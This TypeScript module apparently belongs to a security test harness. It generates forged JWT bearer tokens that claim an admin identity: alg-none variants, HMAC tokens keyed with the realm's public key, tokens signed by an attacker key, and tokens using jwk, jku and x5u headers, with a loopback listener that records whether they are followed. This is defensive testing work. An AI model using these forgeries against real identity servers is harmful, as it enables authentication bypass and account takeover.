import { createServer, type Server } from 'node:http';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import * as jose from 'jose';

/**
 * Bearer tokens an attacker can make without the realm's private key (RFC 8725's classes): unsigned (`alg` none
 * in any spelling), HMAC keyed with the realm's public key, a key of the attacker's own under the realm's `kid`,
 * and the attacker's key announced in the token's own header (`jwk`) or fetched from a URL it names (`jku`,
 * `x5u`). Each claims the identity in `claims` (the admin's).
 */

export interface ForgedToken {
  attack: string;
  /** What the token is, for the report. */
  description: string;
  token: string;
}

/** The realm's signing key as its JWKS publishes it (RS256, `use: sig`). */
export async function realmSigningKey(issuer: string): Promise<jose.JWK & { kid: string }> {
  const discovery = (await (await fetch(`${issuer}/.well-known/openid-configuration`)).json()) as { jwks_uri: string };
  const jwks = (await (await fetch(discovery.jwks_uri)).json()) as { keys: (jose.JWK & { kid: string; use?: string })[] };
  const key = jwks.keys.find((k) => k.kty === 'RSA' && k.alg === 'RS256' && (k.use ?? 'sig') === 'sig');
  if (!key) throw new Error(`the realm ${issuer} publishes no RS256 signing key (${jwks.keys.map((k) => `${k.kid} ${k.alg}`).join(', ')})`);
  return key;
}

const b64 = (o: unknown) => jose.base64url.encode(JSON.stringify(o));

/** A JWS with the given header and claims and an empty signature (what `alg: none` means). */
export function unsignedToken(header: Record<string, unknown>, claims: jose.JWTPayload): string {
  return `${b64(header)}.${b64(claims)}.`;
}

/** An HS256 JWS keyed with the given bytes (any header, so the realm's `kid` can be named). */
export async function hmacToken(header: Record<string, unknown>, claims: jose.JWTPayload, secret: string): Promise<string> {
  return new jose.SignJWT(claims).setProtectedHeader({ ...header, alg: 'HS256' }).sign(new TextEncoder().encode(secret));
}

/** The attacker's RSA key pair, with a self-signed certificate of it (for `x5u`; made by openssl, as the stack's TLS is). */
export interface AttackerKey {
  privateKey: jose.CryptoKey;
  publicJwk: jose.JWK & { kid: string };
  certificatePem: string;
}

export async function attackerKey(): Promise<AttackerKey> {
  const dir = mkdtempSync(join(tmpdir(), 'harness-attacker-'));
  try {
    await execa('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=harness attacker key', '-keyout', 'key.pem', '-out', 'cert.pem'], { cwd: dir });
    const privateKey = await jose.importPKCS8(readFileSync(join(dir, 'key.pem'), 'utf8'), 'RS256', { extractable: true });
    const certificatePem = readFileSync(join(dir, 'cert.pem'), 'utf8');
    const pub = await jose.exportJWK(await jose.importX509(certificatePem, 'RS256', { extractable: true }));
    return { privateKey, certificatePem, publicJwk: { ...pub, kid: 'harness-attacker', alg: 'RS256', use: 'sig' } };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

export async function signedWith(key: AttackerKey, header: Record<string, unknown>, claims: jose.JWTPayload): Promise<string> {
  return new jose.SignJWT(claims).setProtectedHeader({ ...header, alg: 'RS256' }).sign(key.privateKey);
}

/**
 * A loopback HTTP listener serving the attacker's key as a JWKS (`/jwks.json`) and as a certificate
 * (`/cert.pem`), recording every fetch: whether the server under test followed a `jku` or `x5u` header.
 */
export class KeyListener {
  private constructor(private readonly server: Server, readonly url: string, readonly fetched: string[]) {}

  static async start(key: AttackerKey): Promise<KeyListener> {
    const fetched: string[] = [];
    const server = createServer((req, res) => {
      fetched.push(`${req.method} ${req.url}`);
      if (req.url?.startsWith('/jwks.json')) {
        res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ keys: [key.publicJwk] }));
      } else if (req.url?.startsWith('/cert.pem')) {
        res.writeHead(200, { 'Content-Type': 'application/pem-certificate-chain' }).end(key.certificatePem);
      } else {
        res.writeHead(404).end();
      }
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    if (!address || typeof address === 'string') throw new Error('the key listener has no port');
    return new KeyListener(server, `http://127.0.0.1:${address.port}`, fetched);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

/** Every forged token of the catalogue, claiming `claims`, against the realm key `realm`. */
export async function forgedTokens(realm: jose.JWK & { kid: string }, claims: jose.JWTPayload, key: AttackerKey, listener: KeyListener): Promise<ForgedToken[]> {
  const pem = await jose.exportSPKI((await jose.importJWK({ ...realm, ext: true }, 'RS256')) as jose.CryptoKey);
  const kid = realm.kid;
  const out: ForgedToken[] = [];
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    out.push({ attack: `alg-${alg}`, description: `unsigned token, header alg "${alg}" with the realm's kid`, token: unsignedToken({ alg, typ: 'JWT', kid }, claims) });
  }
  out.push(
    { attack: 'alg-none-no-kid', description: 'unsigned token, header alg "none" without a kid', token: unsignedToken({ alg: 'none', typ: 'JWT' }, claims) },
    { attack: 'hmac-realm-public-key-pem', description: "HS256 keyed with the realm's public key as PEM (SPKI), realm kid", token: await hmacToken({ typ: 'JWT', kid }, claims, pem) },
    { attack: 'hmac-realm-public-key-jwk', description: "HS256 keyed with the realm's public key as its JWK JSON, realm kid", token: await hmacToken({ typ: 'JWT', kid }, claims, JSON.stringify(realm)) },
    { attack: 'unknown-key-realm-kid', description: "RS256 signed by the attacker's key under the realm's kid", token: await signedWith(key, { typ: 'JWT', kid }, claims) },
    { attack: 'jwk-header', description: "RS256 signed by the attacker's key, which the header carries (jwk)", token: await signedWith(key, { typ: 'JWT', kid: key.publicJwk.kid, jwk: key.publicJwk }, claims) },
    { attack: 'jku-header', description: `RS256 signed by the attacker's key, header jku ${listener.url}/jwks.json`, token: await signedWith(key, { typ: 'JWT', kid: key.publicJwk.kid, jku: `${listener.url}/jwks.json` }, claims) },
    { attack: 'x5u-header', description: `RS256 signed by the attacker's key, header x5u ${listener.url}/cert.pem`, token: await signedWith(key, { typ: 'JWT', kid: key.publicJwk.kid, x5u: `${listener.url}/cert.pem` }, claims) },
  );
  return out;
}
